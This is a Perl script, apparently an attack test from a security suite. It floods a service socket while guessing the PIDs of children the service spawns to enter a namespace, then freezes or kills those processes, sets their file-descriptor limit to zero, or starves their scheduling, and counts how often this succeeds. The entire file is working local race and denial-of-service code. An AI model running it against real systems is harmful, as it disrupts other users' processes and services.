# Sends requests continuously and stops, kills or starves the child that enters the namespace:
# freeze.pl SOCKET UID REQUEST SECONDS stop|kill|limit|slow
use strict;
use warnings;
use Attack;

my ($socket, $uid, $request, $seconds, $how) = @ARGV;
become($uid + 0);
own_namespace($uid, NEWNS | NEWNET);
my $end = now() + $seconds;

pipe my $reader, my $writer or die;
my $client = fork // die;
if ($client == 0) {
  close $reader;
  my ($requests, $granted, $silent) = (0, 0, 0);
  while (now() < $end) {
    my ($answer, $token) = ask($socket, $request, 1);
    $requests++;
    $granted++ if $token >= 0;
    $silent++ if $answer eq 'timeout';
    sys('close', $token) if $token >= 0;
  }
  syswrite $writer, pack 'LLL', $requests, $granted, $silent;
  exit 0;
}
close $writer;

my $mine = readlink '/proc/self/ns/user';
my ($hits, $tried, %seen, %limits) = (0, 0);
my $none = pack 'QQ', 0, 0;
while (now() < $end) {
  my $last = last_pid();
  for my $pid ($last - 2 .. $last + 4) {
    next if $pid == $client || $pid == $$ || $pid < 2;
    $tried++;
    my $result = $how eq 'stop' ? (kill('STOP', $pid) ? 0 : -1)
      : $how eq 'kill' ? (kill('KILL', $pid) ? 0 : -1)
      : $how eq 'limit' ? sys('prlimit64', $pid, 7, $none, 0)
      # SCHED_IDLE and the highest nice value.
      : sys('sched_setscheduler', $pid, 5, "\0" x 8) | sys('setpriority', 0, $pid, 19);
    next if $result != 0;
    $hits++ unless $seen{$pid}++;
  }
}
waitpid $client, 0;
sysread $reader, my $counts, 12;
my ($requests, $granted, $silent) = unpack 'LLL', $counts;
say_value('hits', $hits);
say_value('tried', $tried);
say_value('requests', $requests);
say_value('granted', $granted);
say_value('silent', $silent);
